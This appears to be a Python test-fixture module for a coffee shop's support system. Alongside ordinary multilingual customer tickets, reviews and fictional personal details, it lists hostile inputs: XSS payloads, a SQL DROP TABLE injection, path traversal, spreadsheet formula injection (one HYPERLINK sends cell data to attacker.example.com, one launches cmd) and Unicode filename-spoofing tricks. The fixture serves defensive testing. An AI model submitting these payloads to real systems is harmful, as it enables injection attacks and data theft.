"""What customers write: ordinary, about other people, and hostile. Read by the generators; never trusted by anything that shows it."""

MARKUP = (
    '<script>alert("review")</script>',
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<a href=\"javascript:alert('x')\">my photos</a>",
    "</td></tr></table><h1>Your account is closed</h1>",
    "<!--<iframe src=https://attacker.example.com/>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> %s %n %(x)s",
    "'); DROP TABLE customers; --",
    "[click](javascript:alert(1)) **bold** https://attacker.example.com/login",
    "../../etc/passwd\\..\\con",
)
FORMULAS = (
    '=HYPERLINK("https://attacker.example.com/?x="&A1,"Open your invoice")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+1)*2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # a full-width equals sign: some spreadsheets read it as one
    '";=1+1;"',
)
CONTROLS = (
    "invoice\u202egnp.exe\u202c",  # right-to-left override
    "\u2066isolated\u2069 \u200eleft\u200f right",
    "zero\u200bwidth\u200djoiner\ufeff",
    "line\u2028separator\u2029paragraph",
    "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08",
    "Z\u0337a\u0338l\u0334g\u0335o\u0336 " + "e" + "\u0301" * 60,
    "\u0645\u0631\u062d\u0628\u0627 hello \u0645\u0631\u062d\u0628\u0627",
    "☕🏔️👩🏽\u200d🌾🇳🇴 \U0001f9cb",
)
VERY_LONG = "The coffee was good, but let me begin with the weather. " * 1800
"""About 100,000 characters in one field."""
HOSTILE = (*MARKUP, *FORMULAS, *CONTROLS, VERY_LONG)

CARELESS_TICKET = (
    "I wanted to pay with 4111 1111 1111 1111, expiry 12/29, code 737, but it was refused. My password is Kaffe-2020! if you want to look. "
    "Please refund to NO93 8601 1117 947."
)

ABOUT_OTHERS = (
    "My neighbour Per Aasen at number 14 took my parcel in and says the box was open. Please ask him: +47 400 00 700.",
    "My husband is in hospital after his operation, so please pause the subscription.",
    "The parcel was for Kjersti Hovland, who shares my flat. She never got it and is quite upset with your driver.",
    "My colleague Uwe Stadler ordered under my name. He is on parental leave, so please send the invoice to his private address.",
    "Der Fahrer (er hieß laut Schild Bjarne) war unhöflich zu meiner Mutter, Elke Zimmermann, 81 Jahre alt.",
)
QUESTIONS = {
    "en": (
        ("Where is my parcel?", "I ordered last week and have heard nothing since. Can you look?"),
        ("Wrong grind", "I asked for whole beans and got them ground for filter."),
        ("Change of address", "I have moved. Please send the next bags to the new address in my account."),
        ("Invoice", "Could I have the invoice once more, please? My mail program ate it."),
        ("Pause the plan", "We are away for three weeks. Please skip one delivery."),
    ),
    "de": (
        ("Wo ist mein Paket?", "Ich habe letzte Woche bestellt und seitdem nichts gehört. Können Sie nachsehen?"),
        ("Falscher Mahlgrad", "Bestellt waren ganze Bohnen, gekommen ist gemahlener Kaffee."),
        ("Neue Adresse", "Wir sind umgezogen. Bitte schicken Sie die nächste Lieferung an die neue Adresse."),
    ),
    "ar": (
        ("أين طلبي؟", "طلبت الأسبوع الماضي ولم يصلني شيء بعد. هل يمكنكم التحقق؟"),
        ("فاتورة", "هل يمكنني الحصول على الفاتورة مرة أخرى من فضلكم؟"),
    ),
}
ANSWERS = {
    "en": (
        "Thank you for writing. We have looked and sent a new bag today. Ingrid, Fjordkaffe",
        "Done. The next delivery is in four weeks. Sverre, Fjordkaffe",
        "The courier says it is on its way and comes tomorrow. Ingrid, Fjordkaffe",
    ),
    "de": (
        "Danke für Ihre Nachricht. Wir haben heute Ersatz verschickt. Ingrid, Fjordkaffe",
        "Erledigt. Die nächste Lieferung kommt in vier Wochen. Sverre, Fjordkaffe",
    ),
    "ar": ("شكرًا لرسالتك. أرسلنا اليوم كيسًا جديدًا. إنغريد، Fjordkaffe", "تم. يصلك الطلب غدًا. سفيري، Fjordkaffe"),
}
REVIEWS = {
    "en": (
        "Bright, with a little orange at the end. We drink it every Sunday.",
        "Too dark for me, though my brother Lars loves it.",
        "Fine, but the bag would not close again.",
        "Best Ethiopian I have had in Bergen.",
        "",
    ),
    "de": (
        "Sehr fein, fast wie Tee. Meine Frau mag ihn lieber kräftiger.",
        "Leider zu sauer für unsere Maschine.",
        "Gerne wieder.",
    ),
    "ar": ("قهوة رائعة، طعمها خفيف ورائحتها جميلة.", "جيدة، لكنها غالية قليلًا."),
}
GIFTS = (
    "Happy birthday, Solveig! From all of us on the third floor.",
    "Get well soon, Mamma. Hugs, Nils",
    "Danke für alles, liebe Frau Keller!",
    "عيد ميلاد سعيد يا هدى",
)
